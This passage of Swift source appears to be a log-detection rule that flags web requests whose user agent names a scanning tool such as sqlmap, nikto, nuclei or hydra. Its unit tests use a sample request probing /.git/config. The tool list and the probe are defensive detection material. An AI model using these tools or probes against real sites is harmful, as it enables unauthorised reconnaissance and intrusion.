  /// The products, built once when the rules are loaded.
  private static let products: Set<Text> = Set(
    """
    sqlmap nikto nuclei gobuster dirbuster feroxbuster wfuzz ffuf masscan zgrab wpscan arachni acunetix nessus openvas
    whatweb dirsearch hydra jaeles
    """.split(whereSeparator: \.isWhitespace).map { Text(String($0)) })

  func matches(_ event: Event) -> Bool {
    guard let text = event["httpUserAgent"].text, !text.isEmpty else { return false }
    return UserAgent(text).products.contains { Self.products.contains($0.name) }
  }

  func title(_ event: Event) -> String? {
    let name = event["httpUserAgent"].text.flatMap { text in
      UserAgent(text).products.first { Self.products.contains($0.name) }?.name
    }
    return "\(event.shown("remoteAddr")) scans with \(name?.string ?? "a tool")"
  }

  private static let log = TestLog(
    """
    {"time": "2026-03-02T09:00:00Z", "remoteAddr": "192.31.196.20", "status": 404,
     "request": "GET /.git/config HTTP/1.1", "httpUserAgent": "Mozilla/5.0 Nuclei/3.1 (compatible)"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest("named product", matches: true, Self.log, title: "192.31.196.20 scans with nuclei"),
      RuleTest(
        "name inside another", matches: false, Self.log.with("httpUserAgent", "hydrangea/1.0")),
      RuleTest(
        "name in a comment", matches: false, Self.log.with("httpUserAgent", "Mozilla/5.0 (nikto)")),
      RuleTest("no user agent", matches: false, Self.log.with("httpUserAgent", "")),
    ]
  }
}
"""####,
  ]
}
